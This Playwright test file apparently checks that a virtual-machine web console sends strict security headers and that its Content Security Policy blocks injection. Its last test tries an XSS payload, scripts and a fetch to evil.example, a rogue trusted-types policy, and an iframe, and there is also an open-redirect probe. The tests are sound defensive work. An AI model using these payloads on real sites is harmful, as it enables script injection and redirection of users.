import { readdirSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { smallVm, VMS } from './manifests/vm';
import { replaceInEditor } from './support/editor';
import { expect, test } from './support/test';

interface Place {
  cluster: string;
  namespace: string;
}

const VM = 'closed';

/** Addresses for every route of the console, found and not found; a new route has to name its own. */
const EXAMPLES: Record<string, (place: Place) => string[]> = {
  'app/page.tsx': () => ['/'],
  'app/not-found.tsx': () => ['/nothing/here'],
  'app/clusters/page.tsx': () => ['/clusters'],
  'app/search/page.tsx': () => ['/search', `/search?q=${VM}`],
  'app/sign-in/[cluster]/page.tsx': ({ cluster }) => [
    `/sign-in/${cluster}`,
    '/sign-in/none?return=//evil.example',
  ],
  'app/signed-in/page.tsx': ({ cluster }) => [`/signed-in?cluster=${cluster}`],
  'app/c/[cluster]/page.tsx': ({ cluster }) => [`/c/${cluster}`, '/c/none'],
  'app/c/[cluster]/vms/page.tsx': ({ cluster }) => [`/c/${cluster}/vms`, '/c/none/vms'],
  'app/c/[cluster]/screens/page.tsx': ({ cluster }) => [`/c/${cluster}/screens`],
  'app/c/[cluster]/access/page.tsx': ({ cluster, namespace }) => [
    `/c/${cluster}/access?namespace=${namespace}`,
  ],
  'app/c/[cluster]/create/page.tsx': ({ cluster }) => [`/c/${cluster}/create`],
  'app/c/[cluster]/create/clone/page.tsx': ({ cluster, namespace }) => [
    `/c/${cluster}/create/clone?namespace=${namespace}&source=${VM}`,
    `/c/${cluster}/create/clone`,
  ],
  'app/c/[cluster]/create/yaml/page.tsx': ({ cluster }) => [`/c/${cluster}/create/yaml`],
  'app/c/[cluster]/ns/[namespace]/vms/[name]/[[...tab]]/page.tsx': ({ cluster, namespace }) => [
    ...[
      '',
      '/console',
      '/configuration',
      '/disks',
      '/networks',
      '/events',
      '/yaml',
      '/diagnose',
      '/no-such-tab',
    ].map((tab) => `/c/${cluster}/ns/${namespace}/vms/${VM}${tab}`),
    `/c/${cluster}/ns/${namespace}/vms/no-such-machine`,
  ],
  'app/c/[cluster]/objects/page.tsx': ({ cluster }) => [`/c/${cluster}/objects`, '/c/none/objects'],
  'app/c/[cluster]/objects/[group]/[version]/[plural]/page.tsx': ({ cluster, namespace }) => [
    `/c/${cluster}/objects/core/v1/configmaps?ns=${namespace}`,
    `/c/${cluster}/objects/no.such.group/v1/things`,
  ],
  'app/c/[cluster]/objects/[group]/[version]/[plural]/[namespace]/[name]/page.tsx': ({
    cluster,
    namespace,
  }) => [
    `/c/${cluster}/objects/kubevirt.io/v1/virtualmachines/${namespace}/${VM}`,
    `/c/${cluster}/objects/core/v1/namespaces/_/${namespace}`,
    `/c/${cluster}/objects/core/v1/configmaps/${namespace}/no-such-map`,
  ],
  'app/console/[cluster]/[namespace]/[name]/[kind]/page.tsx': ({ cluster, namespace }) => [
    `/console/${cluster}/${namespace}/${VM}/vnc`,
    `/console/${cluster}/${namespace}/${VM}/serial`,
    `/console/${cluster}/${namespace}/${VM}/other`,
    `/console/none/${namespace}/${VM}/vnc`,
  ],
};

function routes(): string[] {
  return readdirSync('app', { recursive: true, encoding: 'utf8' })
    .filter((file) => /(^|\/)(page|not-found)\.tsx$/.test(file))
    .map((file) => `app/${file}`)
    .sort();
}

/** Everything that the policy refuses in this page from now on, in the browser's words. */
async function violationsOf(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('noteViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample, sourceFile }) => {
      // The function that the spec put into the page; its type is nobody else's business.
      const { noteViolation } = window as unknown as { noteViolation: (text: string) => void };
      noteViolation(`${effectiveDirective} ${blockedURI} ${sample} ${sourceFile} in ${location.pathname}`);
    });
  });
  return violations;
}

// Addresses that do not exist answer 404, and the browser says so.
test.use({ expectedProblems: /Failed to load resource: the server responded with a status of 4\d\d/ });

test('knows an address of every route', () => {
  expect(Object.keys(EXAMPLES).sort()).toEqual(routes());
});

test('finds nothing on any page that the policy refuses', async ({ page, cluster, namespace }) => {
  await cluster.create(VMS(namespace), smallVm(namespace, VM, { runStrategy: 'Halted' }));
  const violations = await violationsOf(page);
  const place = { cluster: cluster.name, namespace };
  for (const address of Object.values(EXAMPLES).flatMap((addresses) => addresses(place))) {
    const answer = await page.goto(address);
    // A page with a tab of its own closes itself; all others show something.
    await expect(page.locator('body')).not.toBeEmpty();
    await page.waitForLoadState('networkidle');
    expect(violations, `at ${address}`).toEqual([]);
    const headers = answer?.headers() ?? {};
    expect(headers['content-security-policy'], `at ${address}`).toMatch(
      /^default-src 'none'; script-src [^,]*require-trusted-types-for 'script'[^,]*$/,
    );
    expect(headers, `at ${address}`).toMatchObject({
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-embedder-policy': 'require-corp',
      'cross-origin-resource-policy': 'same-origin',
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
    });
    expect(headers['cache-control'], `at ${address}`).toContain('no-store');
  }
});

test('finds nothing either while menus, dialogs, the search and the editor are open', async ({
  page,
  cluster,
  namespace,
}) => {
  await cluster.create(VMS(namespace), smallVm(namespace, VM, { runStrategy: 'Halted' }));
  const violations = await violationsOf(page);
  await page.goto(`/c/${cluster.name}/vms?ns=${namespace}`);
  await page.getByRole('button', { name: /^Theme/ }).click();
  await page.getByRole('menuitem', { name: 'Dark' }).click();
  await page.keyboard.press('Control+k');
  const search = page.getByRole('dialog', { name: /^Search/ });
  await search.getByRole('combobox').fill(VM);
  await expect(search.getByRole('option', { name: new RegExp(VM) }).first()).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: `Actions for ${VM}` }).click();
  await page.getByRole('menuitem', { name: 'Delete' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
  // Moving on without loading brings chunks in by script, through the one policy that there is.
  await page.getByRole('link', { name: VM, exact: true }).click();
  await page
    .getByRole('tab', { name: 'YAML', exact: true })
    .or(page.getByRole('link', { name: 'YAML', exact: true }))
    .click();
  await replaceInEditor(page, VM, 'guest: 256Mi', 'guest: 300Mi');
  await page.keyboard.press('Control+Space');
  await page.keyboard.press('Escape');
  expect(violations).toEqual([]);
});

test.describe('what gets into a page all the same', () => {
  test.use({
    expectedProblems: /Content Security Policy|TrustedHTML|TrustedScript|Policy|Trusted Types|violates/,
  });

  test('becomes no markup and no script', async ({ page, cluster }) => {
    await page.goto(`/c/${cluster.name}/vms`);
    const refused = await page.evaluate(async () => {
      const script = (set: (element: HTMLScriptElement) => void) => () => {
        const element = document.createElement('script');
        set(element);
        document.head.append(element);
      };
      const attempts: Record<string, () => unknown> = {
        html: () => {
          document.body.innerHTML = '<img src=x onerror=alert(1)>';
        },
        'another address': script((it) => {
          it.src = 'https://evil.example/x.js';
        }),
        'an answer of the cluster': script((it) => {
          it.src = '/api/k8s/sandbox/version';
        }),
        'a text': script((it) => {
          it.text = 'window.got = 1';
        }),
        'another policy': () => {
          const { trustedTypes } = window as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): unknown };
          };
          trustedTypes.createPolicy('mine', { createHTML: (html: string) => html });
        },
        'a request elsewhere': () => fetch('https://evil.example/'),
        'a frame': () =>
          new Promise((resolve, reject) => {
            addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
              reject(new Error(effectiveDirective)),
            );
            const frame = document.createElement('iframe');
            frame.onload = resolve;
            frame.src = 'https://evil.example/';
            document.body.append(frame);
          }),
      };
      const names: string[] = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
        } catch {
          names.push(name);
        }
      }
      return { names, all: Object.keys(attempts), got: 'got' in window };
    });
    expect(refused.names).toEqual(refused.all);
    expect(refused.got).toBe(false);
  });
});
